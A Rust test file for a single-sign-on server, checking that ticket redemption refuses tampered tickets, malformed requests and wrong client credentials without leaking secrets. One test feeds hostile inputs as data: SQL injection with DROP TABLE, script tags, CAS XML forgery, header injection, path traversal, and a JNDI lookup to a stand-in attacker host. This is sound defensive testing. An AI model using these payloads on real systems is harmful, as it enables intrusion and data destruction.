//! What is not spelt like a ticket, or not asked like a redemption, is refused as a whole; nothing of
//! it comes back.

use harness::raw;
use proptest::prelude::*;
use reqwest::Method;
use serde_json::json;
use sso_server::{
    app::App,
    tokens::ticket::{Read, read},
};

use crate::{
    mutation::{Change, changed},
    scene::{Scene, assert_problem},
};

fn is_genuine(app: &App, text: &str) -> bool {
    let found = read(&app.keyring, text, &app.config.server.public_url, app.clock.now());
    matches!(found, Read::Genuine(_))
}

// SECURITY-CASES T-07
#[actix_web::test]
async fn a_ticket_has_one_spelling() {
    let mut scene = Scene::start().await;
    let ticket = scene.ticket().await;
    let app = scene.passport.app.clone();
    let mut others = Vec::new();
    for at in 0..ticket.len() {
        let (before, after) = ticket.split_at(at);
        let (one, rest) = after.split_at(1);
        let flipped = if one.chars().all(char::is_lowercase) {
            one.to_ascii_uppercase()
        } else {
            one.to_ascii_lowercase()
        };
        let swapped = match one {
            "-" => "+",
            "_" => "/",
            "A" => "B",
            _ => "A",
        };
        let encoded = format!("%{:02X}", one.as_bytes()[0]);
        others.extend([before.to_owned(), after[1..].to_owned()]);
        others.extend(
            [&*flipped, swapped, &encoded, "", " ", "\0", "é"]
                .map(|instead| format!("{before}{instead}{rest}")),
        );
    }
    let alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_.=+/ \n%";
    for other in alphabet.chars() {
        others.push(format!("{ticket}{other}"));
        others.push(format!("{other}{ticket}"));
        // The last character of a signature carries four bits that mean nothing.
        others.push(format!("{}{other}", &ticket[..ticket.len() - 1]));
    }
    let parts: Vec<&str> = ticket.split('.').collect();
    others.push(parts.join("=."));
    others.push(format!("{ticket}=="));
    others.push(format!("{ticket}.{}", parts[2]));
    others.push(format!("{}.{}.{}", parts[1], parts[0], parts[2]));
    others.push(format!("{}.{}.", parts[0], parts[1]));
    others.push(ticket.repeat(2));
    for other in &others {
        assert!(*other == ticket || !is_genuine(&app, other), "{other:?}\nis taken for\n{ticket}");
    }
    assert!(is_genuine(&app, &ticket), "control");

    // The same by the front door, for a few; the ticket is as good as before.
    for other in others.iter().filter(|other| **other != ticket).step_by(97) {
        scene.refuses("not_genuine", scene.aw.redeem(other)).await;
    }
    assert_eq!(scene.aw.redeem(&ticket).await.status, 200);
}

// SECURITY-CASES T-07
#[actix_web::test]
async fn whatever_is_changed_is_noticed() {
    let mut scene = Scene::start().await;
    let ticket = scene.ticket().await;
    let app = scene.passport.app.clone();
    proptest!(|(changes in prop::collection::vec(Change::any(), 1..4))| {
        let other = changed(&ticket, &changes);
        prop_assert_eq!(is_genuine(&app, &other), other == ticket, "{}", other);
    });
}

// SECURITY-CASES T-11, T-12. The whole answer is compared, so nothing is echoed.
#[actix_web::test]
async fn text_that_wants_to_be_something_else_is_no_ticket() {
    let mut scene = Scene::start().await;
    let ticket = scene.ticket().await;
    let texts = [
        "",
        ".",
        "..",
        "...",
        "a&b",
        "a=b",
        "a#b",
        "%00",
        "\0",
        "%26pgtUrl%3dhttps://evil.example",
        "&pgtUrl=https://evil.example",
        "a\r\nSet-Cookie: x=1",
        "\"",
        "\",\"user\":{\"id\":\"1\"},\"x\":\"",
        "<",
        "<script>alert(1)</script>",
        "x</reason><ok>admin</ok>",
        "</cas:authenticationFailure><cas:authenticationSuccess>",
        "ünïcödé",
        "\u{202e}",
        "' OR '1'='1",
        "'; DROP TABLE spent_tickets; --",
        "${jndi:ldap://evil.example/}",
        "{{7*7}}",
        "../../passport.key",
        "null",
    ];
    let mut rows: Vec<String> = texts.map(str::to_owned).to_vec();
    rows.extend(texts.iter().filter(|text| !text.is_empty()).map(|text| format!("{ticket}{text}")));
    rows.push("A".repeat(2_049));
    rows.push("A".repeat(60_000));
    for text in rows {
        let line = scene.refuses("not_genuine", scene.aw.redeem(&text)).await;
        assert_eq!(line.detail, r#"{"why":"not_genuine"}"#);
    }
    assert_eq!(scene.spent().await, 0);
    assert_eq!(
        scene.aw.redeem(&ticket).await.status,
        200,
        "control: and the tables are still there"
    );
}

// SECURITY-CASES T-31, T-12
#[actix_web::test]
async fn a_redemption_is_asked_for_in_one_way() {
    let mut scene = Scene::start().await;
    let (ticket, other) = (scene.ticket().await, scene.ticket().await);
    let url = scene.aw.return_to.clone();
    let good = json!({ "ticket": ticket, "return_to": url }).to_string();
    let authorization = scene.aw.authorization();
    let asks = async |method: Method, query: &str, kind: &str, body: String| {
        let headers = [("authorization", authorization.as_str()), ("content-type", kind)];
        let path = format!("/api/v1/tickets/redeem{query}");
        scene.passport.browser().request(method, &path, Some(body), &headers).await
    };
    let lines = scene.audit_lines().await;
    let json_type = "application/json";
    let in_query = format!("?ticket={ticket}");
    for query in [&*in_query, "?ticket=a&ticket=b", "?return_to=x", "?client_id=aw", "?x", "?="] {
        let answer = asks(Method::POST, query, json_type, good.clone()).await;
        assert_problem(&answer, 400, "invalid_request");
        assert!(!answer.body.contains(&ticket), "{}", answer.body);
    }
    for body in [
        format!(r#"{{"ticket":"{ticket}","ticket":"{other}","return_to":"{url}"}}"#),
        format!(r#"{{"ticket":"{ticket}","return_to":"{url}","return_to":"{url}"}}"#),
        format!(r#"{{"ticket":["{ticket}"],"return_to":"{url}"}}"#),
        format!(r#"{{"ticket":"{ticket}","return_to":["{url}"]}}"#),
        format!(r#"{{"ticket":"{ticket}","return_to":"{url}","scope":"all"}}"#),
        format!(r#"{{"ticket":"{ticket}","return_to":"{url}","max_age":"60"}}"#),
        format!(r#"{{"ticket":"{ticket}","return_to":"{url}","max_age":1.5}}"#),
        format!(r#"{{"ticket":"{ticket}","return_to":"{url}"}}{{}}"#),
        format!(r#"{{"ticket":"{ticket}","return_to":"{url}""#),
        format!(r#"{{"return_to":"{url}"}}"#),
        format!(r#"["{ticket}","{url}"]"#),
        format!("\"{ticket}\""),
        format!("ticket={ticket}&return_to={url}"),
        "[".repeat(60_000),
        "null".to_owned(),
        String::new(),
    ] {
        let answer = asks(Method::POST, "", json_type, body.clone()).await;
        assert_problem(&answer, 400, "invalid_request");
        assert!(!answer.body.contains(&ticket) && !answer.body.contains(&url), "{}", answer.body);
    }
    for kind in
        ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", "text/json"]
    {
        let answer = asks(Method::POST, "", kind, good.clone()).await;
        assert_problem(&answer, 415, "invalid_request");
    }
    for method in [Method::GET, Method::PUT, Method::DELETE, Method::PATCH] {
        let answer = asks(method, "", json_type, good.clone()).await;
        assert_problem(&answer, 405, "invalid_request");
    }
    let long = json!({ "ticket": ticket, "return_to": url, "verifier": "v".repeat(64 * 1024) });
    let answer = asks(Method::POST, "", json_type, long.to_string()).await;
    assert_problem(&answer, 413, "invalid_request");

    assert_eq!((scene.spent().await, scene.entered().await), (0, 0), "nothing was spent");
    assert_eq!(scene.audit_lines().await, lines, "nothing was taken for a redemption");
    let control = asks(Method::POST, "", "Application/JSON; charset=utf-8", good).await;
    assert_eq!(control.status, 200, "control: {}", control.body);
}

// Secrets never in the query, and one pair of them at most.
#[actix_web::test]
async fn an_app_is_known_by_one_header_alone() {
    let mut scene = Scene::start().await;
    let ticket = scene.ticket().await;
    let body = json!({ "ticket": ticket, "return_to": scene.aw.return_to }).to_string();
    let (basic, secret) = (scene.aw.authorization(), scene.aw.secret.clone());
    let other = scene.bw.authorization();
    let asks = async |query: &str, headers: &[(&str, &str)]| {
        let mut all = vec![("content-type", "application/json")];
        all.extend_from_slice(headers);
        let path = format!("/api/v1/tickets/redeem{query}");
        scene.passport.browser().request(Method::POST, &path, Some(body.clone()), &all).await
    };
    let in_query = format!("?client_id=aw&client_secret={secret}");
    let bearer = format!("Bearer {secret}");
    let bare = basic.replacen("Basic ", "", 1);
    for (query, headers) in [
        ("", &[][..]),
        (&*in_query, &[]),
        ("", &[("authorization", &*bearer)]),
        ("", &[("authorization", &*bare)]),
        ("", &[("x-authorization", &*basic)]),
        ("", &[("authorization", &*basic), ("authorization", &*basic)]),
        ("", &[("authorization", &*basic), ("authorization", &*other)]),
        ("", &[("authorization", "Basic")]),
        ("", &[("authorization", "Basic %%%")]),
    ] {
        let answer = asks(query, headers).await;
        assert_problem(&answer, 401, "invalid_client");
        assert!(!answer.body.contains(&secret), "{}", answer.body);
    }
    let both = asks(&in_query, &[("authorization", &basic)]).await;
    assert_problem(&both, 400, "invalid_request");
    assert!(!both.body.contains(&secret), "{}", both.body);
    assert_eq!(scene.spent().await, 0);
    assert_eq!(asks("", &[("authorization", &basic)]).await.status, 200, "control");
}

// A body that is announced too large is refused before it is sent.
#[actix_web::test]
async fn an_endless_body_is_not_read() {
    let scene = Scene::start().await;
    let host = scene.passport.url.split_once("://").unwrap().1;
    let head = format!(
        "POST /api/v1/tickets/redeem HTTP/1.1\r\nHost: {host}\r\nAuthorization: {}\r\n\
         Content-Type: application/json\r\n",
        scene.aw.authorization()
    );
    let announced = format!("{head}Content-Length: 99999999999\r\nConnection: close\r\n\r\n{{");
    let answer = raw::exchange(scene.passport.address, announced.as_bytes()).await;
    assert_eq!(raw::status(&answer), 413, "{answer}");
    // The same without an announcement.
    let chunk = format!("10000\r\n{}\r\n", " ".repeat(0x10000));
    let chunked = format!("{head}Transfer-Encoding: chunked\r\n\r\n{chunk}{chunk}0\r\n\r\n");
    let answer = raw::exchange(scene.passport.address, chunked.as_bytes()).await;
    assert_eq!(raw::status(&answer), 413, "{answer}");
}
